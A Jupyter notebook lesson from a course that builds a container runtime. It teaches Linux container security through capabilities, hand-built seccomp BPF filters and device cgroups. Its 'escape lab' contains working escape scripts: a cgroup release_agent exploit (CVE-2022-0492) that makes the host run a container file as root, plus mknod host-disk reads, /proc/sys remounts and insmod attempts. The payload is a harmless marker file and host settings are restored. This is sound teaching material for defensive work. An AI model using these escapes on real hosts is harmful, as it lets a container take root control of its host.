# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
# **中文摘要 · 第 08 课：安全——能力、seccomp 与逃逸实验**
#
# 命名空间只改变容器"看到"什么，并不改变容器里的 root 能"做"什么。本课先在
# `--privileged` 容器里把经典的逃逸一个个做成功（cgroup `release_agent` 让宿主机以 root 运行容器里的文件、
# mknod 块设备读宿主机磁盘、重新挂载 /proc/sys、挂载新的 procfs、加载内核模块……），再看默认容器如何一一挡住它们：
# 只保留 Docker 默认的 14 个 capabilities、手写经典 BPF 的 seccomp 过滤器（Docker 默认配置）、no_new_privs、
# cgroup 设备白名单（v1 文件 / v2 eBPF 程序）、/proc 与 /sys 的屏蔽和只读路径，以及另一道防线：用户命名空间。
# 练习 8.1–8.5 正是运行时真正调用的函数。本课结束时主机的所有设置都恢复原状。
#
# 本课构建的包：`minicontainer/security/`。

# %% [markdown]
# # 08 · Security: a default container must not be able to take the host
#
# **The package this lesson builds: `minicontainer/security/`** (capabilities, seccomp, devices).
#
# Lessons 01-07 built a container that *sees* little of the host: its own root, processes,
# hostname, network. But its root is the host's root (no user namespace), and seeing little is not
# the same as being able to do little. In this lesson you first watch a **privileged** container
# take the host in the classic ways, then see which defence stops each one in a default container,
# and build those defences yourself (in `exercises/08-security.py`):
#
# | part | function | what it does |
# |---|---|---|
# | 8.1 | `resolve` | the capabilities a container gets from `--cap-add`/`--cap-drop`/`--privileged` |
# | 8.2 | `apply` | reduce a process to a capability set: bounding, ambient, capset(2) |
# | 8.3 | `arch_check` | the first instructions of every seccomp filter (classic BPF) |
# | 8.4 | `install` | hand a filter to the kernel with seccomp(2) |
# | 8.5 | `program` | the cgroup v2 device allow list as an eBPF program |
#
# The runtime calls the package's versions of these same functions (`minicontainer/security/`).

# %%
from minicontainer.doctor import require

require("root", "seccomp", "cgroups", "busybox")

# %% [markdown]
# ## 1. Two containers: default and `--privileged`
#
# `minicontainer run --privileged` is Docker's escape hatch: every capability, no seccomp filter,
# no masked paths, every device. A process's privileges are in `/proc/self/status`:

# %%
import os
import subprocess
import sys
import tempfile
from pathlib import Path

MC = str(Path(sys.executable).parent / "minicontainer")


def mc(*args: str) -> str:
    done = subprocess.run([MC, *args], capture_output=True, text=True)
    return (done.stdout + done.stderr).strip()


def sh(script: str, *flags: str) -> str:
    """Run a shell script in a fresh busybox container; its output (stdout and stderr)."""
    return mc("run", "--rm", *flags, "busybox", "sh", "-c", script)


def both(script: str, verdict, *more: str) -> None:
    """The same script in a default and in a --privileged container; one verdict line each."""
    for flags in ((), ("--privileged",)):
        print(f"{'--privileged' if flags else 'default':>12}: {verdict(sh(script, *flags, *more))}")


STATUS = "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status"
print("default:\n" + sh(STATUS))
print("--privileged:\n" + sh(STATUS, "--privileged"))

# %% [markdown]
# `CapEff` is a bit mask: bit *n* is capability number *n* (`man 7 capabilities`).
# `capabilities.decode` names them: a default container keeps Docker's 14. No `CAP_SYS_ADMIN`
# (mount, unshare, setns ...), no `CAP_SYS_MODULE`, no `CAP_SYS_PTRACE`, no `CAP_NET_ADMIN`:

# %%
from minicontainer.security import capabilities

print(capabilities.decode("00000000a80425fb"))
print(len(capabilities.all_names()), "capabilities for --privileged on this host")

# %% [markdown]
# ## 2. The escape lab
#
# Each cell tries one classic escape in both containers. The verdict says what happened;
# the text after it says which defence stopped the default container.
#
# ### 2.1 The double chroot (lesson 01)
#
# Lesson 01's escape walks out of a chroot with `chroot(subdir)` and `..`. A container is not a
# chroot: PID 1 did `pivot_root` and detached the host's root, so there is nothing above `/`.
# We give the escape its best chance: a process that joins the container's mount namespace from
# the host with *every* capability, more than `--privileged` gives:

# %%
import json

mc("run", "-d", "--name", "lab-chroot", "busybox", "sleep", "300")
pid = json.loads(mc("inspect", "lab-chroot"))[0]["State"]["Pid"]
ESCAPE = f"""
import os, sys
sys.path.insert(0, {str(Path(capabilities.__file__).parents[2])!r})
from minicontainer import chroot, namespaces
namespaces.join({pid}, ["mnt"])
chroot.escape_chroot()
print(sorted(os.listdir("/")))
"""
after = subprocess.run([sys.executable, "-I", "-S", "-c", ESCAPE], capture_output=True, text=True).stdout
inside = sorted(sh("ls /").split())
seen = set(json.loads(after.replace("'", '"'))) - {".escape"}
print("after the escape, / is the container's root:", seen == set(inside))
print("after the escape, / is the host's root:     ", seen == set(os.listdir("/")))
_ = mc("rm", "-f", "lab-chroot")

# %% [markdown]
# **Defence: pivot_root** (and a mount namespace). No capability matters here.
#
# ### 2.2 The cgroup `release_agent` (CVE-2022-0492)
#
# On cgroup v1, each hierarchy's root has a `release_agent` file: a program the **host's** kernel
# runs, as root, in the host's namespaces, when a group with `notify_on_release` becomes empty.
# A container that can mount a hierarchy's root can name a file of its own (through the host path of
# its overlay upper directory, which `/proc/self/mountinfo` shows) and trigger it. The payload here
# only creates a file in a temporary directory *of the host*. The script puts back the host's
# `release_agent` and removes its group; we check the host settings are as they were.

# %%
def v1_hierarchies() -> list[str]:
    with open("/proc/self/cgroup") as f:
        return [line.split(":")[1] for line in f if line.split(":")[1]]


def release_agents() -> dict[str, str]:
    found = {}
    for h in v1_hierarchies():
        path = Path("/sys/fs/cgroup") / h.removeprefix("name=") / "release_agent"
        if path.exists():  # (a payload another run of this lab left half-way is not the host's setting)
            found[h] = "" if path.read_text().rstrip().endswith("/upper/payload") else path.read_text()
    return found


RELEASE_AGENT = """
upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -1)
mkdir -p /cg
for h in {hierarchies}; do
  case $h in name=*) o=none,$h;; *) o=$h;; esac
  mount -t cgroup -o $o cgroup /cg 2>/dev/null || continue
  [ -e /cg/release_agent ] && break
  umount /cg
done
[ -e /cg/release_agent ] || {{ echo "no hierarchy root could be mounted"; exit; }}
old=$(cat /cg/release_agent); case $old in */upper/payload) old=;; esac  # (another lab's, left half-way)
printf '#!/bin/sh\\ntouch {marker}\\n' > /payload && chmod +x /payload
echo "$upper/payload" > /cg/release_agent
mkdir /cg/mc-escape && echo 1 > /cg/mc-escape/notify_on_release
sh -c 'echo $$ > /cg/mc-escape/cgroup.procs'
for i in $(seq 50); do [ -e {marker} ] && break; sleep 0.1; done
rmdir /cg/mc-escape 2>/dev/null; echo "$old" > /cg/release_agent; umount /cg
echo "release_agent set and triggered"
"""

escaped, unchanged = False, True  # what every host shows; the lines "this host: ..." depend on the host
if not v1_hierarchies():
    print("  this host: cgroup v2 only: v2 has no release_agent, so this escape does not exist here")
else:
    host_dir = Path(tempfile.mkdtemp(prefix="mc-lab-"))
    before = release_agents()
    try:
        for flags in ((), ("--privileged",)):
            marker = host_dir / ("escaped" + "-privileged" * bool(flags))
            said = sh(RELEASE_AGENT.format(hierarchies=" ".join(v1_hierarchies()), marker=marker), *flags)
            print(f"  this host: {'--privileged' if flags else 'default'}: {said.splitlines()[-1]}; "
                  f"the host ran the container's file as root: {marker.exists()}")
            escaped = escaped or (marker.exists() and not flags)
        unchanged = release_agents() == before
    finally:  # whatever happened in there (a container killed half-way), the host gets its settings back
        for h, value in before.items():
            path = Path("/sys/fs/cgroup") / h.removeprefix("name=") / "release_agent"
            if path.read_text() != value:
                path.write_text(value or "\n")
    for f in host_dir.iterdir():
        f.unlink()
    host_dir.rmdir()
print("a default container made the host run its file:", escaped)
print("host release_agent files as before:", unchanged)

# %% [markdown]
# **Defences:** no `CAP_SYS_ADMIN` and seccomp (mount is refused with EPERM); the cgroup namespace
# (a hierarchy the container's group is in shows that group as its root, without `release_agent`);
# and the container's own cgroups at `/sys/fs/cgroup` are mounted read-only.
#
# ### 2.3 A block device node
#
# A device file is just a name for (type, major, minor). `CAP_MKNOD` is one of the 14, so `mknod`
# works in a default container, as in Docker: what matters is whether the node can be *opened*.
# We make a node for a block device of the host (a loop device, or else its first disk) and read one byte:

# %%
if Path("/dev/loop0").exists():
    major, minor = os.major(os.stat("/dev/loop0").st_rdev), os.minor(os.stat("/dev/loop0").st_rdev)
else:
    major, minor = Path("/proc/partitions").read_text().split("\n")[2].split()[:2]
MKNOD = (f"mknod /disk b {major} {minor} && echo -n 'mknod ok, '; "
         "head -c 1 /disk > /dev/null 2>&1 && echo 'read the host disk' || echo 'open refused'")
both(MKNOD, lambda out: out)

# %% [markdown]
# **Defence: the device cgroup** (section 6): the container's cgroup allows only null, zero, full,
# random, urandom, tty, console, ptmx, the pseudo-terminals and tun.
#
# ### 2.4 `/proc/sys` and `/proc/sysrq-trigger`
#
# `/proc/sys` holds the kernel's settings. Many are per namespace (the hostname), many are not
# (`kernel.core_pattern` names a program the host runs on each crash: another escape). A default
# container sees `/proc/sys` read-only and cannot remount it:

# %%
REMOUNT = "mount -o remount,rw /proc/sys 2>/dev/null; { echo changed > /proc/sys/kernel/hostname; } 2>/dev/null; hostname"
both(REMOUNT, lambda out: f"hostname is {out!r}", "--hostname", "box")
# (Lines that start with "this host:" depend on the kernel and the host: some kernels have no sysrq.)
SYSRQ = "( : > /proc/sysrq-trigger ) 2>/dev/null && echo 'opened for writing' || echo 'refused'"
if not os.path.exists("/proc/sysrq-trigger"):
    print("  this host: this kernel has no /proc/sysrq-trigger")
else:
    for flags in ((), ("--privileged",)):
        print(f"  this host: {'--privileged' if flags else 'default'}: {sh(SYSRQ, *flags)}")

# %% [markdown]
# (We wrote nothing to `/proc/sysrq-trigger`: one letter, `b`, reboots the host at once.)
# **Defence: read-only paths** (`rootfs.READONLY_PATHS`, bind mounts remounted read-only) and no
# `CAP_SYS_ADMIN` to remount them.
#
# ### 2.5 A new procfs or sysfs, a kernel module

# %%
NEWFS = "mkdir -p /p; mount -t proc proc /p 2>/dev/null && echo -n 'procfs mounted ' || echo -n 'procfs refused '; mount -t sysfs sysfs /p 2>/dev/null && echo 'sysfs mounted' || echo 'sysfs refused'"
both(NEWFS, lambda out: out)
MODULE = "echo 'not a module' > /m.ko; insmod /m.ko 2>&1"
both(MODULE, lambda out: "refused before the kernel looked (EPERM)" if "not permitted" in out
     else "the kernel read the file (and found no valid module in it)")

# %% [markdown]
# A fresh procfs has no masked paths; sysfs mounted writable would reconfigure devices. Loading a
# module is running code in the kernel. **Defences:** no `CAP_SYS_ADMIN`/`CAP_SYS_MODULE`, and
# seccomp refuses `mount`, `init_module` and `finit_module` outright.
#
# ### 2.6 ptrace of a host process
#
# To write into another process's memory you must first find it. The PID namespace hides every
# host process, privileged or not (Docker needs `--privileged --pid=host` for this one):

# %%
both("ls /proc | grep -c '^[0-9]'", lambda out: "only the container's own few processes" if int(out) < 10
     else f"{out} processes visible")
print("on the host:", sum(name.isdigit() for name in os.listdir("/proc")) > 20)

# %% [markdown]
# ## 3. Capabilities
#
# Docker's rules for `--cap-add`/`--cap-drop` (names with or without `CAP_`, any case, and `ALL`)
# decide the set; **Exercise 8.1** writes them. **Exercise 8.2** applies a set to a process, the way
# the container's process does before `execve`: drop the rest of the bounding set (so no program it
# runs, setuid ones included, can get them back), clear the ambient set, then `capset(2)`.

# %%
from minicontainer.exercises import check, hint, milestone

check("8.1")
check("8.2")

# %%
print("--cap-drop ALL:       ", sh(STATUS, "--cap-drop", "ALL").splitlines()[0])
print("--cap-add NET_ADMIN:  ", capabilities.decode(sh(STATUS, "--cap-add", "NET_ADMIN").split()[1])[-3:])
print("--user 1000:          ", sh(STATUS, "--user", "1000").splitlines()[0])

# %% [markdown]
# After `execve`, root gets its bounding set; any other user gets nothing: no ambient set, no file
# capabilities. That is why `--user 1000` shows `CapEff: 0`.
#
# ## 4. no_new_privs: setuid programs stop working
#
# A setuid-root program gives whoever runs it root's powers (within the bounding set). With
# `PR_SET_NO_NEW_PRIVS`, `execve` never raises privileges again. Here `nobody` runs a setuid-root
# copy of busybox's `ping`, which needs `CAP_NET_RAW`:

# %%
SETUID = ("mkdir /s && cp /bin/busybox /s/busybox && chmod 4755 /s/busybox && "
          "su -s /bin/sh nobody -c '/s/busybox ping -c 1 -W 1 127.0.0.1 > /dev/null 2>&1 && echo works || echo refused'")
print("no-new-privileges (default):", sh(SETUID))
print("no-new-privileges=false:    ", sh(SETUID, "--security-opt", "no-new-privileges=false"))

# %% [markdown]
# ## 5. seccomp: a filter on every system call, in classic BPF
#
# A seccomp filter is a program the kernel runs before each system call of the process. It reads
# `struct seccomp_data` (the call's number at offset 0, the architecture at 4, the arguments from
# 16) and returns a verdict. We build one by hand that refuses `mkdir` with EROFS. First
# **Exercise 8.3**, the start of every filter: check the architecture (a 32-bit call has other
# numbers: 39 is `getpid` on x86_64 but `mkdir` on i386!) and load the number:

# %%
check("8.3")

# %%
from minicontainer.security import seccomp

ARCH = seccomp.native_arch()
NR = seccomp.TABLES[ARCH]
hand_made = seccomp.arch_check(ARCH) + [
    seccomp.jump(seccomp.JEQ, NR["mkdirat"], 1, 0),           # mkdirat? skip to the refusal
    seccomp.jump(seccomp.JEQ, NR.get("mkdir", 0xFFFF), 0, 1),  # mkdir? (aarch64 has only mkdirat)
    seccomp.stmt(seccomp.RET, seccomp.errno_action(30)),        # EROFS
    seccomp.stmt(seccomp.RET, seccomp.SECCOMP_RET_ALLOW),
]
NAMES = {seccomp.LD_ABS: "ld", seccomp.JEQ: "jeq", seccomp.JGE: "jge", seccomp.JGT: "jgt", seccomp.RET: "ret"}
for i, (code, jt, jf, k) in enumerate(hand_made):
    print(f"{i:2} {NAMES[code]:4} {k:#010x}" + (f"  jt {jt} jf {jf}" if code in (seccomp.JEQ, seccomp.JGE) else ""))
print(len(seccomp.encode(hand_made)), "bytes; mkdir:", seccomp.describe(seccomp.run(hand_made, NR["mkdirat"], ARCH)),
      "| getpid:", seccomp.describe(seccomp.run(hand_made, NR["getpid"], ARCH)))

# %% [markdown]
# `seccomp.run` is an interpreter of these instructions: it answers as the kernel would. Now the
# kernel itself. **Exercise 8.4** installs a program with `seccomp(2)`; a filter cannot be removed,
# so we install it in a fresh process (no_new_privs first: without it installing needs CAP_SYS_ADMIN):

# %%
check("8.4")

# %%
TRY = f"""
import os, sys
sys.path.insert(0, {str(Path(capabilities.__file__).parents[2])!r})
from minicontainer.security import seccomp
seccomp.set_no_new_privs()
seccomp.install(bytes.fromhex({seccomp.encode(hand_made).hex()!r}))
try:
    os.mkdir("/tmp/mc-lab-never")
except OSError as exc:
    print("mkdir:", exc.strerror)
print("getpid:", os.getpid() > 0)
"""
print(subprocess.run([sys.executable, "-I", "-S", "-c", TRY], capture_output=True, text=True).stdout)

# %% [markdown]
# Docker's default profile (`minicontainer/security/default.json`, from github.com/moby/profiles)
# is an allow list: about 370 calls are allowed, some only with given arguments (`clone` without
# namespace flags, `socket` without `AF_VSOCK`), some only with a capability (`mount` with
# `CAP_SYS_ADMIN`); everything else fails with EPERM. `seccomp.compile_profile` turns it into a
# program: runs of allowed numbers become ranges, and argument rules compare the two 32-bit halves
# of each 64-bit argument.

# %%
default = seccomp.default_program(capabilities.DEFAULT)
print(len(default) // 8, "instructions for", len(NR), "system calls")
for name, args in [("read", ()), ("mount", ()), ("unshare", ()), ("keyctl", ()), ("bpf", ()), ("ptrace", ()),
                   ("clone", (0x01200011,)), ("clone", (0x10000000,)), ("clone3", ()), ("socket", (40,))]:
    print(f"  {name:8} {str(args):14} {seccomp.describe(seccomp.run(default, NR[name], ARCH, args))}")

# %% [markdown]
# `clone3` fails with ENOSYS rather than EPERM: its flags sit in memory, out of the filter's reach,
# so the profile makes the C library fall back to `clone`, whose flags it *can* check.
# A profile of your own goes in a file, in Docker's format:

# %%
profile = Path(tempfile.mkdtemp(prefix="mc-lab-")) / "no-mkdir.json"
profile.write_text('{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": '
                   '[{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 30}]}')
print(sh("mkdir /x", "--security-opt", f"seccomp={profile}"))
profile.write_text('{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [{"names": ["execve"], "action": "SCMP_ACT_ERRNO"}]}')
print(sh("true", "--security-opt", f"seccomp={profile}"))
profile.unlink()
profile.parent.rmdir()

# %% [markdown]
# ## 6. Devices: the cgroup's allow list
#
# Every container's cgroup gets Docker's device rules before its first process joins. On cgroup v1
# they are lines in the `devices` hierarchy (`devices.deny` "a", then `devices.allow` per device);
# on cgroup v2 there are no files: the runtime attaches an eBPF program of type
# `BPF_PROG_TYPE_CGROUP_DEVICE` to the group, and the kernel runs it on every open and mknod of a
# device file. **Exercise 8.5** writes that program:

# %%
from minicontainer.security import devices

rules = devices.default_rules()
print([r.line() for r in rules])
prog = devices.program(rules)
print(len(prog), "eBPF instructions;", "loop0 read:", devices.run(prog, "b", 7, 0, "r"),
      "| loop0 mknod:", devices.run(prog, "b", 7, 0, "m"), "| /dev/null rw:", devices.run(prog, "c", 1, 3, "rw"))
check("8.5")

# %% [markdown]
# ## 7. The other defence: user namespaces
#
# Everything above limits a root that *is* the host's root. A user namespace changes what root's
# capabilities are worth: inside one they count only for what the namespace owns (its mounts, its
# network, its hostname), never for the host's devices or files. Here `--userns private` keeps
# CAP_MKNOD in the set, and still the kernel refuses a device node. Run by an ordinary user
# (rootless mode, lesson 02), the container's uid 0 is also that user's uid on the host: the
# `uid_map` below would read `0 1000 1` instead of `0 0 1`.

# %%
print(sh("cat /proc/self/uid_map; mknod /d b 7 0 2>&1 | tail -1", "--userns", "private", "--rootfs",
         str(Path(os.environ.get("MC_LIB_DIR", "/var/lib/minicontainer")) / "rootfs" / "busybox")))

# %% [markdown]
# ## 8. Your runtime
#
# Your five functions are steps of every `run` (`minicontainer/security/` keeps the runtime's own):
# the set from your `resolve`, your `apply` on PID 1 and on the workload, your `arch_check` at the
# head of the compiled profile, installed by your `install` (and on a cgroup v2 host, your device
# program attached to the container's group). With `--yours=08`:

# %%
print(mc("--yours=08", "run", "--rm", "--cap-drop", "ALL", "--cap-add", "NET_BIND_SERVICE", "busybox",
         "grep", "-E", "^(CapEff|CapBnd|Seccomp):", "/proc/self/status"))

# %% [markdown]
# The milestone: a container of your runtime has Docker's 14 capabilities (and no more in its bounding
# set), a seccomp filter, and root in it cannot mount; `--cap-drop ALL --cap-add CHOWN` leaves CHOWN only.

# %%
milestone("08")

# %% [markdown]
# ## 9. Clean up
#
# Every container of this lesson ran with `--rm` (or was removed above); the release_agent files
# were checked above. Nothing of this lesson is left:

# %%
import time

for _ in range(50):  # (a monitor may still be writing its last record for a moment on a busy host)
    if not mc("ps", "-aq"):
        break
    time.sleep(0.2)
print("containers:", mc("ps", "-aq").split())

# %% [markdown]
# **What you built:** Docker's capability rules and a process reduced to them, the start of a
# seccomp filter and its installation, and the device program of cgroup v2. `minicontainer run`
# now gives every container the defaults of Docker and runc: 14 capabilities, the default seccomp
# profile, no_new_privs, the device allow list, masked and read-only paths; `--privileged`,
# `--cap-add`, `--cap-drop`, `--security-opt` and `--device` change them, and `inspect` shows them.
# Next, **09 · lifecycle**.
